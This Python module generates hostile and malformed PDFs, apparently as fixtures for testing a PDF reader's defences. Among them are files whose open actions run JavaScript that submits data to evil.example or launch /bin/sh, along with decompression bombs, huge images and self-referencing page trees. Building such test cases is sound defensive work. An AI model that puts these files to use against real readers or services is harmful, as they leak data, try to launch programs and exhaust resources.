"""PDFs that want to run, to grow, or never to end."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

CATALOG, PAGES = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << >> >>"
TEXT = b"BT 20 200 Td (Total 12.00) Tj ET"
_BOMB = 300_000_000


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def packed(content: bytes, more: bytes = b"") -> bytes:
    return stream(zlib.compress(content, 9), b"/Filter /FlateDecode " + more)


def file_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """The objects from 1 on, with a table of where they lie."""
    whole, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(whole))
        whole += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    whole += b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, table)
    start = whole.rindex(b"xref\n0")
    return whole + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (count, trailer, start)


def hostile_pdfs() -> Iterator[tuple[str, bytes]]:
    yield from _running()
    yield from _growing()
    yield from _endless()


def _running() -> Iterator[tuple[str, bytes]]:
    script = b"(app.alert\\(1\\); this.submitForm\\('http://evil.example'\\))"
    for what, action in (
        ("JavaScript", b"<< /S /JavaScript /JS " + script + b" >>"),
        ("a program to launch", b"<< /S /Launch /F (/bin/sh) >>"),
        ("an address to open", b"<< /S /URI /URI (http://evil.example/?track) >>"),
        ("a form to send", b"<< /S /SubmitForm /F (http://evil.example) >>"),
        ("another file to go to", b"<< /S /GoToR /F (//evil.example/share) /D [0 /Fit] >>"),
    ):
        catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>"
        yield f"PDF with {what}", file_of(catalog, PAGES, PAGE, stream(TEXT))
    page = PAGE.replace(b"/Contents", b"/AA << /O << /S /JavaScript /JS " + script + b" >> >> /Contents")
    yield "PDF with JavaScript on its page", file_of(CATALOG, PAGES, page, stream(TEXT))
    names = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>"
    held = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
    yield "PDF with a program in it", file_of(names, PAGES, PAGE, stream(TEXT), held, stream(b"MZ" + bytes(99)))
    form = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R /Fields [] >> >>"
    xfa = stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>alert(1)</script></xdp:xdp>")
    yield "PDF with a form of XML", file_of(form, PAGES, PAGE, stream(TEXT), xfa)
    locked = b"/Encrypt << /Filter /Standard /V 4 /R 4 /Length 128 /P -44 /O <%s> /U <%s> >> /ID [<00> <00>]"
    key = b"41" * 32
    yield "PDF that is locked", file_of(CATALOG, PAGES, PAGE, stream(TEXT), trailer=locked % (key, key))
    yield (
        "PDF locked by nobody knows what",
        file_of(CATALOG, PAGES, PAGE, stream(TEXT), trailer=b"/Encrypt << /Filter /Evil /V 99 >>"),
    )


def _growing() -> Iterator[tuple[str, bytes]]:
    yield "PDF with a bomb in its page", file_of(CATALOG, PAGES, PAGE, packed(b"q " * (_BOMB // 2)))
    twice = zlib.compress(zlib.compress(bytes(_BOMB), 9), 9)
    bomb = stream(twice, b"/Filter [/FlateDecode /FlateDecode]")
    yield "PDF with a bomb in a bomb", file_of(CATALOG, PAGES, PAGE, bomb)
    drawn = PAGE.replace(b"/Resources << >>", b"/Resources << /XObject << /I 5 0 R >> >>")
    show = stream(b"300 0 0 300 0 0 cm /I Do")
    for what, sides in (("large", (30_000, 30_000)), ("huge", (2_000_000_000, 2_000_000_000)), ("negative", (-5, -5))):
        picture = packed(
            bytes(9), b"/Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8" % sides
        )
        yield f"PDF with a {what} picture", file_of(CATALOG, PAGES, drawn, show, picture)
    for box in (b"0 0 0 0", b"0 0 1000000000 1", b"0 0 1e38 1e38", b"-5 -5 -9 -9", b"0 0 0.001 14400", b"a b c d"):
        page = PAGE.replace(b"0 0 300 300", box)
        yield f"PDF of {box.decode()}", file_of(CATALOG, PAGES, page, stream(TEXT))
    yield "PDF of a million letters", file_of(CATALOG, PAGES, PAGE, packed(b"BT (" + b"A" * 1_000_000 + b") Tj ET"))
    yield "PDF of a million pages", file_of(CATALOG, PAGES.replace(b"/Count 1", b"/Count 1000000"), PAGE, stream(TEXT))
    yield "PDF of minus one page", file_of(CATALOG, PAGES.replace(b"/Count 1", b"/Count -1"), PAGE, stream(TEXT))
    font = PAGE.replace(b"/Resources << >>", b"/Resources << /Font << /F 5 0 R >> >>")
    broken = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >>"
    described = b"<< /Type /FontDescriptor /FontName /X /FontFile2 7 0 R >>"
    yield (
        "PDF with a broken font",
        file_of(
            CATALOG,
            PAGES,
            font,
            stream(b"BT /F 9 Tf (x) Tj ET"),
            broken,
            described,
            stream(b"\0\1\0\0" + b"\xff" * 500),
        ),
    )
    for name in (b"JBIG2Decode", b"JPXDecode", b"DCTDecode", b"CCITTFaxDecode", b"LZWDecode"):
        said = b"/Subtype /Image /Width 99 /Height 99 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /" + name
        yield (
            f"PDF with rubbish as {name.decode()}",
            file_of(CATALOG, PAGES, drawn, show, stream(b"\xff\x4f" * 99, said)),
        )


def _endless() -> Iterator[tuple[str, bytes]]:
    yield (
        "PDF whose pages hold themselves",
        file_of(CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>", PAGE, stream(TEXT)),
    )
    drawn = PAGE.replace(b"/Resources << >>", b"/Resources << /XObject << /F 5 0 R >> >>")
    again = b"/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    yield "PDF that draws itself", file_of(CATALOG, PAGES, drawn, stream(b"/F Do"), stream(b"/F Do /F Do", again))
    yield "PDF of deep brackets", file_of(CATALOG, PAGES, PAGE, stream(b"[" * 500_000))
    yield "PDF of deep lists", file_of(b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b" >>", PAGES, PAGE)
    yield "PDF whose table leads to itself", file_of(CATALOG, PAGES, PAGE, stream(TEXT), trailer=b"/Prev 9")
    yield "PDF whose length is elsewhere", file_of(CATALOG, PAGES, PAGE, b"<< /Length 4 0 R >>\nstream\n\nendstream")
    yield "PDF whose length lies", file_of(CATALOG, PAGES, PAGE, stream(TEXT).replace(b"/Length ", b"/Length 99999"))
    yield "PDF without a page", file_of(CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>")
    yield "PDF of nothing", b"%PDF-1.7\n%%EOF\n"
    yield "PDF of zeros", b"%PDF-1.7\n" + bytes(5000) + b"%%EOF\n"
    yield "PDF without its table", file_of(CATALOG, PAGES, PAGE, stream(TEXT)).replace(b"xref", b"XXXX")
